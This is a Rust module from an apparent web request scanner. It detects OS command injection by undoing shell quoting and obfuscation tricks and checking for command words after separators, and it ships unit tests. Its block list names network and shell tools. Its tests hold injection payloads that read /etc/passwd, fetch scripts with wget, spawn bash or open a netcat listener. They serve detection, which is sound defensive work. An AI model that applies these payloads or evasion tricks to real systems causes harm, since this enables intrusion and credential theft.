//! OS command injection: a command word in command position — after a
//! shell separator, inside `$(...)` or backticks — once quoting tricks
//! (`c'a't`, `c\at`, `${IFS}`) are undone.

use haetae_model::Confidence::{High, Low, Medium};

use super::{Hit, Kind, Target};

/// Commands that are almost never English words.
const STRONG: &[&str] = &[
    "cat",
    "ls",
    "id",
    "whoami",
    "uname",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "dash",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "lua",
    "node",
    "chmod",
    "chown",
    "rm",
    "mkfifo",
    "telnet",
    "ssh",
    "scp",
    "ftp",
    "tftp",
    "ping",
    "nslookup",
    "dig",
    "ifconfig",
    "ipconfig",
    "netstat",
    "passwd",
    "crontab",
    "base64",
    "xxd",
    "awk",
    "gawk",
    "sed",
    "grep",
    "egrep",
    "busybox",
    "powershell",
    "pwsh",
    "cmd",
    "certutil",
    "bitsadmin",
    "wmic",
    "reg",
    "net",
    "net1",
    "tasklist",
    "systeminfo",
    "nohup",
    "sudo",
    "su",
    "env",
    "printenv",
    "hostname",
    "pwd",
    "uptime",
    "ps",
    "kill",
    "killall",
    "useradd",
    "usermod",
    "mknod",
    "dd",
    "tar",
    "unzip",
    "gcc",
    "cc",
    "socat",
    "sleep",
    "echo",
    "printf",
    "eval",
    "exec",
    "expr",
    "xargs",
    "tee",
    "touch",
    "cp",
    "mv",
    "ln",
    "head",
    "tail",
    "less",
    "more",
    "nl",
    "od",
    "strings",
    "rev",
    "tac",
    "rundll32",
    "regsvr32",
    "mshta",
    "cscript",
    "wscript",
    "msiexec",
    "schtasks",
    "vssadmin",
    "icacls",
    "cacls",
    "attrib",
    "ver",
];

/// Command words that are also English (or too short to trust after a
/// weak separator like `;` or `&`).
pub(super) const WEAK: &[&str] = &[
    "time", "find", "type", "dir", "set", "sort", "date", "which", "who", "test", "read", "wait", "start", "call", "copy", "del", "move",
    "print", "more", "less", "head", "tail", "kill", "echo", "sleep", "env", "ps", "id", "net", "ver", "reg", "su", "cc", "nl", "od",
    "rev", "tac", "dd", "sh",
];

/// Undoes quoting tricks; also says whether any trick was one that only
/// obfuscation uses (`$@` or an empty pair of quotes inside a word).
fn undo_quoting(s: &[u8]) -> (Vec<u8>, bool) {
    let mut out = Vec::with_capacity(s.len());
    let mut obfuscated = false;
    let mut closing = super::NextOf::new(b'}');
    let mut i = 0;
    while i < s.len() {
        let b = s[i];
        // `${IFS}`, `$IFS$9`, `$@`, `$*` as separators or no-ops.
        if b == b'$' {
            let rest = &s[i + 1..];
            // `$'\x63\x61\x74'`: Bash's ANSI-C quoting, escapes decoded.
            if rest.first() == Some(&b'\'')
                && let Some((used, letters)) = ansi_c_quoted(&rest[1..], &mut out)
            {
                obfuscated |= letters;
                i += 2 + used;
                continue;
            }
            // `${PATH:0:1}` is `/`: a slash spelled without one.
            if rest.first() == Some(&b'{')
                && closing.within(s, i + 2, 32).is_some()
                && let Some((used, slash)) = substring_expansion(rest)
            {
                if slash {
                    out.push(b'/');
                }
                obfuscated = true;
                i += 1 + used;
                continue;
            }
            // `echo${IFS}x`, `cat$IFS/etc`: IFS glued to a word stands for a
            // blank only someone dodging a filter avoids typing.
            let glued = i > 0 && s[i - 1].is_ascii_alphanumeric();
            if rest.starts_with(b"{ifs}") {
                out.push(b' ');
                obfuscated |= glued;
                i += 6;
                continue;
            }
            if rest.starts_with(b"ifs") {
                out.push(b' ');
                obfuscated |= glued;
                i += 4;
                if s.get(i) == Some(&b'$') && s.get(i + 1).is_some_and(u8::is_ascii_digit) {
                    i += 2;
                }
                continue;
            }
            if matches!(rest.first(), Some(b'@' | b'*'))
                || rest.first().is_some_and(u8::is_ascii_digit) && i > 0 && s[i - 1].is_ascii_alphabetic()
            {
                obfuscated |= i > 0 && s[i - 1].is_ascii_alphanumeric() && rest.get(1).is_some_and(u8::is_ascii_alphanumeric);
                i += 2;
                continue;
            }
            // `c$!at`, `c$$at`, `c$_at`, `pi$()ng`: special variables and
            // empty substitutions inside a word expand to nothing.
            let in_word = i > 0 && s[i - 1].is_ascii_alphanumeric();
            if in_word && rest.starts_with(b"()") {
                obfuscated = true;
                i += 3;
                continue;
            }
            if in_word
                && matches!(rest.first(), Some(b'!' | b'$' | b'_' | b'-' | b'?' | b'#'))
                && rest.get(1).is_some_and(u8::is_ascii_alphanumeric)
            {
                i += 2;
                continue;
            }
            // `n$u\c`, `cu${v}rl`: an unset variable splitting a word
            // expands to nothing. Short names only: the trick needs none
            // longer, and text rarely glues a `$name` to a word.
            if in_word {
                let braced = rest.first() == Some(&b'{');
                let name = &rest[usize::from(braced)..];
                let n = name.iter().take_while(|b| b.is_ascii_lowercase()).count();
                let closed = !braced || name.get(n) == Some(&b'}');
                if (1..=3).contains(&n) && closed && !name.get(n).is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_') {
                    obfuscated = true;
                    i += 1 + n + 2 * usize::from(braced);
                    continue;
                }
            }
        }
        // ``pi``ng``: an empty backtick pair inside a word; `pi<()ng`: an
        // empty process substitution.
        if b == b'`' && s.get(i + 1) == Some(&b'`') && i > 0 && s[i - 1].is_ascii_alphanumeric() {
            // Inside the word, or closing one (`ping`` 127.0.0.1`) with no
            // opening pair before it, so not reStructuredText's ``code``.
            obfuscated |= s.get(i + 2).is_some_and(u8::is_ascii_alphanumeric)
                || s.get(i + 2).is_none_or(|&n| n == b' ') && memchr::memmem::find(&s[..i], b"``").is_none();
            i += 2;
            continue;
        }
        if matches!(b, b'<' | b'>') && s[i + 1..].starts_with(b"()") && i > 0 && s[i - 1].is_ascii_alphanumeric() {
            obfuscated = true;
            i += 3;
            continue;
        }
        // `""p""y""t""h""o""n`: an empty pair of quotes touching a word.
        // Not a pair that only ends a word: Python's `b''`, `r""`.
        if matches!(b, b'\'' | b'"') && s.get(i + 1) == Some(&b) && s.get(i + 2).is_some_and(u8::is_ascii_alphanumeric) {
            obfuscated = true;
            i += 2;
            continue;
        }
        // Quotes and backslashes inside a word: c'a't, c"a"t, c\at.
        if matches!(b, b'\'' | b'"' | b'\\') {
            let prev = out.last().copied();
            let next = s.get(i + 1).copied();
            if prev.is_some_and(|p| p.is_ascii_alphanumeric() || p == b'/') || next.is_some_and(|n| n.is_ascii_alphanumeric() || n == b'/')
            {
                if b == b'\\' && next.is_some_and(|n| n.is_ascii_alphanumeric()) {
                    i += 1;
                    continue;
                }
                if b != b'\\' {
                    i += 1;
                    continue;
                }
            }
        }
        out.push(b);
        i += 1;
    }
    (out, obfuscated)
}

/// The body of `$'…'` (after the opening quote): appends the decoded text
/// (lower-cased, as the value around it) to `out` and returns the bytes
/// used (closing quote included) and whether an escape spelled a letter
/// or digit. None when unclosed.
fn ansi_c_quoted(s: &[u8], out: &mut Vec<u8>) -> Option<(usize, bool)> {
    let end = s.iter().take(256).enumerate().position(|(k, &b)| b == b'\'' && (k == 0 || s[k - 1] != b'\\'))?;
    let from = out.len();
    let spelled = crate::normalize::backslash_decode_into(&s[..end], false, out);
    out[from..].make_ascii_lowercase();
    Some((end + 1, spelled))
}

/// `{PATH:0:1}` (after the `$`): a substring of a variable. Returns the
/// bytes used and whether it is the leading `/` of a variable that holds
/// a path.
fn substring_expansion(s: &[u8]) -> Option<(usize, bool)> {
    let inner = s.strip_prefix(b"{")?;
    let close = inner.iter().take(32).position(|&b| b == b'}')?;
    let body = &inner[..close];
    let colon = body.iter().position(|&b| b == b':')?;
    let (name, range) = (&body[..colon], &body[colon + 1..]);
    if name.is_empty() || !name.iter().all(|b| b.is_ascii_alphabetic() || *b == b'_') {
        return None;
    }
    let mut parts = range.split(|&b| b == b':');
    let (Some(off), Some(len), None) = (parts.next(), parts.next(), parts.next()) else { return None };
    let digits = |d: &[u8]| !d.is_empty() && d.iter().all(u8::is_ascii_digit);
    if !digits(off) || !digits(len) {
        return None;
    }
    let slash = off == b"0" && len == b"1" && [&b"path"[..], b"home", b"pwd", b"oldpwd", b"shell"].contains(&name);
    Some((close + 2, slash))
}

fn word_at(s: &[u8], mut i: usize) -> (&[u8], usize, usize) {
    // Bounded: every newline is a separator, and an unbounded skip would
    // make a body of blank lines quadratic.
    let lim = (i + 64).min(s.len());
    while i < lim && (s[i].is_ascii_whitespace() || matches!(s[i], b'{' | b'(' | b'!')) {
        i += 1;
    }
    let st = i;
    while i < s.len() && i - st < 256 && (s[i].is_ascii_alphanumeric() || matches!(s[i], b'_' | b'.' | b'/' | b'-' | b'\\' | b':')) {
        i += 1;
    }
    let w = &s[st..i];
    // Full paths: /bin/cat, /usr/bin/id, c:\windows\system32\cmd.exe
    let base = w.rsplit(|&b| b == b'/' || b == b'\\').next().unwrap_or(w);
    (base, st, i)
}

/// The value outside `s[open..=close]` is prose: at least two words of
/// letters, and none of the shell's separators or expansions.
fn prose_around(s: &[u8], separators_before: &[u32], open: usize, close: usize) -> bool {
    // Separators outside the span, from prefix counts: a value with many
    // spans is not rescanned whole for each.
    let end = (close + 1).min(s.len());
    let total = separators_before[s.len()];
    if separators_before[open] + (total - separators_before[end]) > 0 {
        return false;
    }
    let mut words = 0;
    let mut run = 0;
    for &b in s[..open].iter().chain(&s[end..]).chain(std::iter::once(&b' ')) {
        if b.is_ascii_alphabetic() {
            run += 1;
        } else {
            words += usize::from(run >= 2);
            run = 0;
            if words >= 2 {
                return true;
            }
        }
    }
    false
}

/// `out[k]` = shell separators in `s[..k]`.
fn separators_before(s: &[u8]) -> Vec<u32> {
    let mut out = Vec::with_capacity(s.len() + 1);
    let mut n = 0u32;
    out.push(0);
    for &b in s {
        n += u32::from(matches!(b, b';' | b'|' | b'&' | b'$' | b'<' | b'>' | b'\n'));
        out.push(n);
    }
    out
}

static STRONG_WORDS: super::Words = super::Words::new(STRONG);
static WEAK_WORDS: super::Words = super::Words::new(WEAK);

/// Some(strong?) for a command word. Hashed: it runs at every separator,
/// and a hostile body is made of separators.
fn classify(w: &[u8]) -> Option<bool> {
    if w.is_empty() || w.len() > 16 {
        return None;
    }
    let w = w.strip_suffix(b".exe").unwrap_or(w);
    if WEAK_WORDS.contains(w) {
        return Some(false);
    }
    STRONG_WORDS.contains(w).then_some(true)
}

pub fn check(t: &Target<'_>) -> Option<Hit> {
    let mut h = check_value(t)?;
    if t.kind == Kind::Header && product_comment_token(t.norm, h.at) {
        return None;
    }
    // A command shown inside a closed Markdown code fence in a post
    // ("Try this: ```sh\ncargo bench -p x\n```"): the fence itself would
    // be an unterminated substitution to a shell, so nothing in it runs.
    if h.confidence > Low && inside_fence(t.norm, h.at) {
        h.confidence = Low;
        h = h.settle("cmdi");
        h.reason.to_mut().push_str(" (inside a Markdown code block)");
    }
    Some(h)
}

/// `Mozilla/5.0 (… ARM; Touch; NOKIA)`, `(compatible; Embedly/0.2; snap; +http://…)`:
/// in a header made of products and comments (RFC 9110's User-Agent and
/// Server grammar), a bare word between `;` inside a comment is a device or
/// product name. A command there has arguments, a substitution or a pipe,
/// which the word check before this one has already read.
fn product_comment_token(s: &[u8], at: usize) -> bool {
    let product = s.iter().take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.')).count();
    if product == 0 || s.get(product) != Some(&b'/') {
        return false;
    }
    let Some(at) = (at < s.len()).then_some(at) else { return false };
    let depth = s[..at].iter().fold(0i32, |d, &b| d + i32::from(b == b'(') - i32::from(b == b')'));
    if depth <= 0 {
        return false;
    }
    // The word the finding points at, from a separator or from the word.
    let mut a = at;
    while a < s.len() && matches!(s[a], b';' | b' ') {
        a += 1;
    }
    let mut e = a;
    while e < s.len() && (s[e].is_ascii_alphanumeric() || matches!(s[e], b'-' | b'_' | b'.')) {
        e += 1;
    }
    let before = s[..a].iter().rev().find(|&&b| b != b' ');
    let after = s[e..].iter().find(|&&b| b != b' ');
    e > a && matches!(before, Some(b';' | b'(')) && matches!(after, None | Some(b';' | b')'))
}

fn inside_fence(s: &[u8], at: usize) -> bool {
    let at = at.min(s.len());
    let before = memchr::memmem::find_iter(&s[..at], b"```").count();
    before % 2 == 1 && memchr::memmem::find(&s[at..], b"```").is_some()
}

/// `~-`, `~+1`, `~0` (directory-stack tilde expansion) or `!-1!-2`
/// (history expansion) as the whole value: Bash syntax with no other
/// reading, sent to learn whether the value reaches a shell.
fn bash_expansion_only(s: &[u8]) -> Option<&'static str> {
    let v = s.trim_ascii();
    if v.len() < 2 || v.len() > 16 {
        return None;
    }
    let digits = |w: &[u8]| w.iter().all(u8::is_ascii_digit);
    if let Some(rest) = v.strip_prefix(b"~") {
        let num = rest.strip_prefix(b"+").or_else(|| rest.strip_prefix(b"-")).unwrap_or(rest);
        if digits(num) && (num.len() < rest.len() || !num.is_empty()) && num.len() <= 3 {
            return Some("tilde expansion of the directory stack");
        }
    }
    if v[0] == b'!' && v[1..].split(|&b| b == b'!').all(|e| e.len() >= 2 && e[0] == b'-' && digits(&e[1..]) && e.len() <= 4) {
        return Some("history expansion");
    }
    None
}

fn check_value(t: &Target<'_>) -> Option<Hit> {
    if let Some((tail, off)) = t.path_tail(|b| matches!(b, b';' | b'|' | b'`' | b'$' | b'&' | b'\n')) {
        return check_value(&tail).filter(|h| h.confidence == High).map(|h| h.shifted(off));
    }
    if matches!(t.kind, Kind::Path | Kind::FileName) {
        return None;
    }
    let raw = t.norm;
    if matches!(t.kind, Kind::Value | Kind::Cookie | Kind::Header)
        && let Some(name) = super::shell::lone_program(raw)
    {
        return Some(Hit::new(2202, High, format!("command injection: the value is the command `{name}`"), 0).shape("cmdi.lone-command"));
    }
    if let Some(why) = bash_expansion_only(raw) {
        return Some(Hit::new(2202, High, format!("command injection: the value is a Bash {why}"), 0).shape("cmdi.bash-expansion"));
    }
    let separators = raw.iter().any(|&b| matches!(b, b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'\r' | b'<' | b'>' | b'('));
    // A command line with arguments has a space (or `${IFS}`, `{a,b}`).
    if !separators && !raw.iter().any(|&b| matches!(b, b' ' | b'\t' | b'{' | b'+' | b'[' | b'*' | b'?' | b'/')) {
        return None;
    }
    // Most values have nothing to unquote: skip the copy.
    // A `(` alone is undone only inside `<()`/`>()` (the `$()` case has a
    // `$`): without `<` or `>` a value of parentheses needs no copy.
    let quoting = memchr::memchr3(b'$', b'`', b'\\', raw).is_some()
        || memchr::memchr2(b'\'', b'"', raw).is_some()
        || memchr::memchr2(b'<', b'>', raw).is_some() && memchr::memchr(b'(', raw).is_some();
    let (owned, obfuscated) = if quoting { undo_quoting(raw) } else { (Vec::new(), false) };
    let s = if quoting { &owned[..] } else { raw };
    // Before unquoting, which would make `n` of a literal `\n`.
    if let Some(at) = super::shell::sqlite_dot_command(raw) {
        return Some(Hit::new(2202, High, "command injection: SQLite shell dot-command", at));
    }
    // The command-line grammar first: it also reads values that start
    // with a command (`ls -l /etc`), with no separator in front.
    let line = super::shell::judge(s, obfuscated).map(|(c, why, at, shape)| Hit::new(2202, c, why, at).shape(shape));
    if line.as_ref().is_some_and(|h| h.confidence == High) || !separators {
        return line;
    }
    // `` `cut x``dig y` ``: the whole value substitutions one after
    // another, each opening with a program (read before unquoting, which
    // joins the two).
    let v = raw.trim_ascii();
    if v.len() > 4 && v[0] == b'`' && v[v.len() - 1] == b'`' && memchr::memchr_iter(b'`', v).count().is_multiple_of(2) {
        let groups = || v[1..v.len() - 1].split(|&b| b == b'`').step_by(2);
        if groups().count() > 1 && groups().all(|g| super::shell::program(word_at(g, 0).0).is_some()) {
            return Some(Hit::new(2201, High, "command injection: the value is a chain of backtick substitutions", 0));
        }
    }
    // `` `id` ``: the whole value one backtick substitution of a command.
    if s.len() > 2 && s[0] == b'`' && s[s.len() - 1] == b'`' && memchr::memchr_iter(b'`', s).count() == 2 {
        let (w, _, _) = word_at(s, 1);
        if classify(w).is_some() {
            return Some(
                Hit::new(2201, High, format!("command injection: `{}` substituted as the whole value", String::from_utf8_lossy(w)), 0)
                    .shape("cmdi.backtick-substitution"),
            );
        }
    }
    let mut i = 0;
    let mut best: Option<Hit> = None;
    let mut seps: Option<Vec<u32>> = None;
    let first_brace = memchr::memchr(b'{', s);
    // Bytes that can open a separator: the rest are skipped in a tight
    // loop (this runs over every byte of every value with a separator).
    const fn opener_table() -> [bool; 256] {
        let mut t = [false; 256];
        let bytes = b"`$<>|&\n\r;";
        let mut k = 0;
        while k < bytes.len() {
            t[bytes[k] as usize] = true;
            k += 1;
        }
        t
    }
    static OPENS: [bool; 256] = opener_table();
    while i < s.len() {
        if !OPENS[s[i] as usize] {
            i += 1;
            continue;
        }
        let b = s[i];
        // (separator length, strong context?)
        // `$(`, `<(`, `>(` and a newline are code; a backtick is also
        // Markdown's inline-code mark, so on its own it proves less.
        // A backtick glued to words on both sides (or inside `${…}`) is no
        // Markdown code mark.
        let subst = b == b'\n'
            || (matches!(b, b'$' | b'<' | b'>') && s.get(i + 1) == Some(&b'('))
            || (b == b'`'
                && i > 0
                && (s[i - 1].is_ascii_alphanumeric() || matches!(s[i - 1], b'{' | b'$'))
                && s.get(i + 1).is_some_and(u8::is_ascii_alphanumeric));
        let backtick = b == b'`';
        // RST's ``literal`` marks: an empty substitution, no command.
        let double_tick = b == b'`' && (s.get(i + 1) == Some(&b'`') || i > 0 && s[i - 1] == b'`');
        let sep = match b {
            b'`' if double_tick => None,
            b'`' => Some((1, true)),
            b'$' if s.get(i + 1) == Some(&b'(') => Some((2, true)),
            b'<' | b'>' if s.get(i + 1) == Some(&b'(') => Some((2, true)),
            b'|' if s.get(i + 1) == Some(&b'|') => Some((2, true)),
            b'&' if s.get(i + 1) == Some(&b'&') => Some((2, true)),
            b'|' => Some((1, true)),
            b'\n' | b'\r' => Some((1, true)),
            b';' | b'&' => Some((1, false)),
            _ => None,
        };
        if let Some((len, strong_ctx)) = sep {
            let (w, word_start, end) = word_at(s, i + len);
            // `| JSON | Python |`: a cell of a text table, between pipes.
            let table_cell = b == b'|'
                && i > 0
                && s[i - 1] == b' '
                && s[end..].iter().take_while(|&&c| c == b' ').count() > 0
                && s[end..].trim_ascii_start().first() == Some(&b'|');
            if table_cell {
                i += len;
                continue;
            }
            let Some(strong_word) = classify(w) else {
                // Every separator between here and the word reaches the
                // same word (or none): a run of blank lines is read once,
                // not once per line.
                i = word_start.max(i + len);
                continue;
            };
            {
                let next = s.get(end).copied();
                // A command word followed by an argument, a separator, or nothing.
                // `}` and `,` end a word only inside a group or brace
                // expansion (`{ ls;}`, `{ls,-la}`); `;ls}` is the word `ls}`.
                let grouped = first_brace.is_some_and(|b| b < word_start);
                let shaped = next.is_none_or(|n| {
                    n.is_ascii_whitespace()
                        || matches!(n, b';' | b'|' | b'&' | b'`' | b')' | b'<' | b'>' | b'$')
                        || grouped && matches!(n, b'}' | b',')
                });
                // "I typed `ls` and nothing", "Run with `python -I` to
                // regenerate": a code span (Markdown, Sphinx) in text. The
                // words around it are prose and nothing outside is shell;
                // "127.0.0.1 `id`" has no prose around it.
                // An unclosed backtick runs nothing (the shell refuses it).
                let close = if backtick { memchr::memchr(b'`', &s[i + 1..]).map(|c| i + 1 + c) } else { None };
                let code_span = backtick
                    && !subst
                    && (i == 0 || s[i - 1] == b' ')
                    && close.is_none_or(|c| prose_around(s, seps.get_or_insert_with(|| separators_before(s)), i, c));
                // "127.0.0.1 `id`": no word of text at all around it.
                let bare = backtick && close.is_some_and(|c| !s[..i].iter().chain(&s[c + 1..]).any(u8::is_ascii_alphabetic));
                if shaped && (strong_word || strong_ctx) {
                    let conf = if code_span {
                        Low
                    } else if strong_word || subst || bare {
                        High
                    } else if w == b"id"
                        && strong_ctx
                        && s[end..].iter().all(|c| c.is_ascii_whitespace() || matches!(c, b';' | b'|' | b'&' | b'#'))
                    {
                        // `a|id`, `1&&id`: the canary of command injection,
                        // piped or chained, with nothing after it.
                        High
                    } else if backtick {
                        Low
                    } else {
                        Medium
                    };
                    let h = Hit::new(2201, conf, format!("command injection: `{}` after a shell separator", String::from_utf8_lossy(w)), i)
                        .shape("cmdi.separator-command");
                    if conf == High {
                        return Some(h);
                    }
                    best.get_or_insert(h);
                }
            }
            i += len;
            continue;
        }
        i += 1;
    }
    match (best, line) {
        (Some(b), Some(l)) => Some(if l.confidence > b.confidence { l } else { b }),
        (b, l) => b.or(l),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testutil::target;

    fn hit(s: &str) -> bool {
        let (norm, ev) = crate::normalize::normalize(s.as_bytes());
        check(&target(s.as_bytes(), &norm, ev)).is_some_and(|h| h.confidence == High)
    }

    #[test]
    fn reads_a_value_the_same_whatever_its_parameter_is_called() {
        let at = |key: &str, v: &str| crate::testutil::confidence_at(check, haetae_model::Source::Form, Kind::Value, key, v) == Some(High);
        for key in ["password", "mb_password", "comment"] {
            // A program's name glued to what no command line has after it
            // is one longer word, whatever the field.
            for b in ["cP$J_%$F9e+2", "w$y],N(KdpX%H#6T", "rmt&%SL:N}eiM)", "n/W*?j$H.jZ,_9m", "Wc9;Wbu:ePLP", "?qV.Se;LS}"] {
                assert!(!at(key, b), "false positive in {key}: {b}");
            }
            for a in [
                "x; cat /etc/passwd",
                "$(id)",
                "Ab1;$(whoami)",
                "|id",
                "Secr3t;cat${IFS}/etc/passwd",
                "cat${IFS}/etc/passwd",
                "whoami;0'0'",
            ] {
                assert!(at(key, a), "missed in {key}: {a}");
            }
        }
    }

    #[test]
    fn an_assignment_is_not_the_program_it_is_named_after() {
        for b in [" ent=Electronics; cp=Y; chan=org;", "kvpage=index;alias=abw_top;grp=511", "a=1&fc=24&u_his=3"] {
            assert!(!hit(b), "false positive: {b}");
        }
        for a in ["x; cp /etc/passwd /tmp/x", "a; alias ls=id", "a=1&&fc -e vi"] {
            assert!(hit(a), "missed: {a}");
        }
    }

    #[test]
    fn a_device_name_in_a_user_agent_comment_is_not_a_command() {
        let ua = |v: &str| crate::testutil::confidence_at(check, haetae_model::Source::Header, Kind::Header, "user-agent", v) == Some(High);
        for b in [
            "Mozilla/5.0 (compatible; MSIE 10.0; Windows Phone 8.0; Trident/6.0; IEMobile/10.0; ARM; Touch; NOKIA; Lumia 920)",
            "Mozilla/5.0 (compatible; Embedly/0.2; snap; +http://support.embed.ly/)",
        ] {
            assert!(!ua(b), "false positive: {b}");
        }
        for a in [
            "Mozilla/5.0 (X11; wget http://10.0.0.1/x -O /tmp/x)",
            "Mozilla/5.0 (X; $(id))",
            "() { :; }; /bin/cat /etc/passwd",
            ";touch /tmp/x",
        ] {
            assert!(ua(a), "missed: {a}");
        }
    }

    #[test]
    fn reads_bash_expansions_and_lone_commands_as_the_whole_value() {
        for a in ["~-", "~-1", "~0", "~+", "!-1!-2", " ~+2 ", "whoami", "visudo", "chef-shell", "ansible-console"] {
            assert!(hit(a), "missed: {a}");
        }
        for b in ["~", "!!", "!1", "~1000", "~abc", "!-", "wow!-1", "~-1 km", "python", "shutdown", "apt", "e-mail", "x-ray"] {
            assert!(!hit(b), "false positive: {b}");
        }
    }

    #[test]
    fn catches_injections() {
        for a in [
            ";cat /etc/passwd",
            "127.0.0.1 | whoami",
            "x && wget http://a/b.sh",
            "$(id)",
            "`uname -a`",
            "`cut crs312``dig 34test`",
            "a|id",
            "1&&id;",
            ";echo${IFS}test",
            ";$0 -c id",
            "a;c'a't /etc/passwd",
            "a;cat${IFS}/etc/passwd",
            "1|/bin/bash -i",
            "x & powershell -enc AAAA",
            "x\nid",
            "127.0.0.1&&ping -c 3 127.0.0.1",
            "`cat /etc/passwd`",
            "py''thon -c \"print('x')\"",
            "host;c$!at /et$!c/pas$!swd",
            "cu$@rl google.com",
            "pi$()ng 127.0.0.1",
            "pi<()ng 127.0.0.1",
            "\"\"p\"\"y\"\"t\"\"h\"\"o\"\"n\"\"3\"\" \"\"c\"\"m\"\"d\"\"",
            "${`id`}",
            "0.846`echo${IFS}x``echo${IFS}y`",
            "whxami|sh ``",
            "ping`` 127.0.0.1",
            "`id`",
            "127.0.0.1 `id`",
            "127.0.0.1 `cat /etc/passwd`",
            "x `uname -a` y",
            "```; cat /etc/passwd",
            "{n$u\\c$u,-nlvp,777}",
            "v='u';cu$v\\r\\l google.com",
            "c${u}at /etc/passwd",
            "$'\\x63\\x61\\x74' /etc/passwd",
            "$'\\143\\141\\164' /etc/passwd",
            ";${PATH:0:1}bin${PATH:0:1}id",
            "cmd /c whoami",
            "cmd.exe /k \"dir c:\\\"",
        ] {
            assert!(hit(a), "missed: {a}");
        }
    }

    #[test]
    fn passes_prose() {
        for b in [
            "Tom & Jerry",
            "``date`` and ``time``",
            "user|id|name",
            "a;id",
            "during that time; he came",
            "exec noun",
            "time he came.",
            "Products | Store",
            "R&D; find the type",
            "a & b; c",
            "salt & pepper",
            "the ` type is like the `file` type",
            "use ` print` to show ` which` one",
            "The ``Path`` type is similar to the :class:`File` type, but",
            "Python assumes ``LANG=C.UTF-8``.",
            "rock'n'roll is here to stay",
            "I typed `ls` and nothing happened",
            "run `whoami`, then `id`.",
            "+------+--------+ | JSON | Python | +======+========+ | object | dict |",
            "To benchmark: ```sh\ncargo bench -p haetae-engine --bench engine\n``` then compare.",
            "```\ncd fuzz; cargo fuzz run -O request\n```",
            "Run with `python -I` to regenerate.",
            "an `ls -l'-like output is produced",
            "- ``expr`` - expression that must match",
            "e.g. * ``/etc/group`` * ``/etc/passwd`` * ``/etc/shadow``",
        ] {
            assert!(!hit(b), "false positive: {b}");
        }
    }
}
